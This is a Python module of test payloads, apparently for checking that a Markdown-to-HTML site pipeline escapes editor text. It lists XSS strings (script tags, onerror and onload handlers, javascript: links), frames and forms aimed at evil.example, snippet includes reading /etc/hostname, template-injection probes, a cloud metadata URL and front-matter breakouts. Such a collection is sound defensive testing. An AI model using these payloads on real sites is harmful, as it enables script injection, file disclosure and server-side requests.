r"""Texts that would be executed, break out, or be taken for markup if not escaped; each is identified by its number in the list of threats.

`\n` in a text is a line end that an editor typed.  White space at the ends is left out, as readers of HTML cannot see it.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Mapping
from typing import Final

#: Texts that have an effect at the beginning of a block.
BEGINNING: Final[Mapping[str, str]] = {
    "b088-backslash": r"\<script>alert(1)</script>",
    "b093-reference": "[x]: javascript:alert(1)",
    "b097-snippet": '--8<-- "/etc/hostname"',
    "b097-snippet-up": '--8<-- "../x"',
    "b097-snippet-escaped": ';--8<-- "https://evil.example"',
    "b098-abbreviation": "*[the]: hijack",
    "b100-admonition": '!!! danger "<img onerror=x>"',
    "b100-details": "??? note",
    "b100-tab": '=== "tab"',
    "b106-heading": "# x",
    "b106-bullet": "- x",
    "b106-bullet-star": "* x",
    "b106-bullet-plus": "+ x",
    "b106-number": "1. x",
    "b106-quotation": "> x",
    "b106-definition": ": def",
    "b106-definition-spaces": ":   def",
    "b106-task": "[ ] x",
    "b106-meta": "Key: value",
    "b106-fence": "```python",
    "b106-fence-tilde": "~~~ x",
    "b122-breakout-after": "x\n---\n\n# y",
    "b126-description": '"><script>alert(1)</script>',
    "b128-section": "</title><img src=x onerror=alert(1)>",
}

#: Texts that have an effect only if nothing else is there.
WHOLE: Final[Mapping[str, str]] = {
    "b094-attributes-alone": "{: #tabs .md-header }",
    "b106-rule": "---",
    "b106-rule-stars": "***",
    "b106-setext": "===",
    "b106-table": "| a | b |",
    "b106-toc": "[TOC]",
    "b108-no-spaces": "x" * 200,
    "b121-end": "... x",
    "b122-breakout": "---\ntemplate: x.html\n---",
    "b125-date": "2024-01-01",
    "b125-bool": "true",
    "b125-list": "[a, b]",
    "b125-map": "{a: b}",
    "b125-number": "1.10",
    "b125-nothing": "~~",
}

#: Texts that have an effect anywhere.
WITHIN: Final[Mapping[str, str]] = {
    "b089-img": "<img src=x onerror=alert(1)>",
    "b089-svg": "<svg/onload=alert(1)>",
    "b089-details": "<details open ontoggle=alert(1)>",
    "b089-body": "<body onload=alert(1)>",
    "b090-iframe": "<iframe src=//evil.example></iframe>",
    "b090-object": "<object data=x></object><embed src=x>",
    "b090-form": "<form action=//evil.example><input><button formaction=//evil.example>",
    "b090-base": "<base href=//evil.example>",
    "b090-style": "<link rel=stylesheet href=//evil.example><style>*{}</style>",
    "b090-meta": "<meta http-equiv=refresh content=0>",
    "b090-noscript": "<noscript><template><math>",
    "b092-escaped-address": "[x](javascript&#58;alert(1))",
    "b093-reference-used": "[x][x] [x]",
    "b094-attributes": "{: onclick=alert(1) }",
    "b094-attributes-after-emphasis": "*text*{: .x }",
    "b096-comment-end": "x -->",
    "b096-cdata": "<![CDATA[ x",
    "b096-declaration": "<![ x",
    "b096-processing": "<?php x",
    "b097-snippet-within": 'x --8<-- "y"',
    "b101-jinja": "{{ config }} {{7*7}}",
    "b101-jinja-block": "{% include 'x' %} {# x #}",
    "b101-others": "${x} <%= x %>",
    "b102-emoji": ":smile: :octicons-x:",
    "b104-keys": "++ctrl++ ==mark== ~~x~~ ^^x^^ H~2~O",
    "b104-critic": "{++x++} {>>c<<}",
    "b104-symbols": "(c) --> 1/2 +/- ...",
    "b105-mathematics": r"$x$ \(x\) $$ x $$ \[y\]",
    "b106-number-ends": "It was 2023. 1. x",
    "b106-lines": "x\n\n# b",
    "b106-code": "x\n\n    code",
    "b106-rule-below": "x\n---",
    "b112-title": "</title><script>alert(1)</script>",
    "b112-title-escaped": "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "b113-greek": "Ωμέγα",
    "b113-cyrillic": "Жук",
    "b113-chinese": "中国",
    "b113-emoji": "🚢",
    "b116-link-words": 'a) ] " % # ? [b](c "d")',
    "b117-span": '<span title="&#34; onmouseover=alert(1)">x</span>',
    "b118-style": "style=x expression(alert(1)) url(//evil.example)",
    "b120-arabic": "السلام عليكم",
    "b120-hebrew": "שלום עולם",
    "b120-hindi": "नमस्ते दुनिया",
    "b120-thai": "สวัสดีชาวโลก",
    "b120-korean": "안녕하세요",
    "b120-japanese": "こんにちは、世界。",
    "b120-zwj": "👩\u200d👩\u200d👧\u200d👦 x",
    "b120-combining": "q\u0301 q\u0308",
    "b121-quotes": 'a "b" \\ c: d # e',
    "b121-newline": "a\nb: c",
    "b134-leftovers": "TODO nan None (Citation: x) <Actor object at 0x7f>",
    "b134-footnote": "[^1] [^1]: x",
    "b136-address": "?q=<img onerror=alert(1)>&h=<b>",
    "b137-fetch": "<img src=http://169.254.169.254/>",
    "autolink": "<https://evil.example> https://evil.example evil@evil.example",
    "entity": "&copy; &#60; &amp;amp; &notanentity; AT&T",
    "stash": "wzxhzdk:0 klzzwxh:0000",
    "hyphens": "-x x- x--y –—",
    "b072-names": 'O\'Neill & Söhne "GmbH" 50%',
}

#: Texts that have an effect at the end of a block, or on what comes after it.
ENDING: Final[Mapping[str, str]] = {
    "b094-attributes-style": "text {: #tabs .md-header style=position:fixed }",
    "b096-comment": "<!-- x",
    "b108-backslash-end": "x\\",
    "b110-unclosed-quote": '<a href="x" title="',
    "b110-unclosed-tag": "<a href=x",
}

PAYLOADS: Final[Mapping[str, str]] = {**BEGINNING, **WHOLE, **WITHIN, **ENDING}

#: Texts that a record must not contain, with the code of the problem.
REFUSED: Final[Mapping[str, tuple[str, str]]] = {
    "b109-placeholder": ("\x02wzxhzdk:0\x03", "hidden-character"),
    "b109-stash": ("\x02klzzwxh:0000\x03", "hidden-character"),
    "b109-amp": ("\x02amp\x03", "hidden-character"),
    "b112-line-separator": ("a\u2028b", "hidden-character"),
    "b121-next-line": ("a\x85b", "hidden-character"),
}

#: Texts that grow on the way to a page if something processes them repeatedly: a piece, to be repeated.
BOMBS: Final[Mapping[str, str]] = {
    "b114-stars": "*`",
    "b114-brackets": "[",
    "b114-parentheses": "(",
    "b114-underscores": "_a",
    "b114-backticks": "`",
    "b114-angles": "<",
    "b114-ampersands": "&",
    "b114-tags": "<a ",
    "b114-quotations": "> ",
    "b114-links": "[a](",
    "b114-comments": "<!-",
}


def shown(raw: str) -> str:
    """A text as a page shows it: runs of white space become one space, and there is none at the ends."""
    return re.sub(r"\s+", " ", raw).strip()


def sheets() -> tuple[str, ...]:
    """Every payload in a text that fits any field: one that acts at the beginning, some within, one that acts at the end; or one alone."""
    ends = itertools.cycle(ENDING.values())
    texts = [[begin, next(ends)] for begin in BEGINNING.values()]
    for number, raw in enumerate(sorted(WITHIN.values(), key=len, reverse=True)):
        room = sorted(texts, key=lambda parts: len(" ".join(parts)))[0]
        room.insert(1 + number % (len(room) - 1), raw)
    return (*(" ".join(parts) for parts in texts), *WHOLE.values())
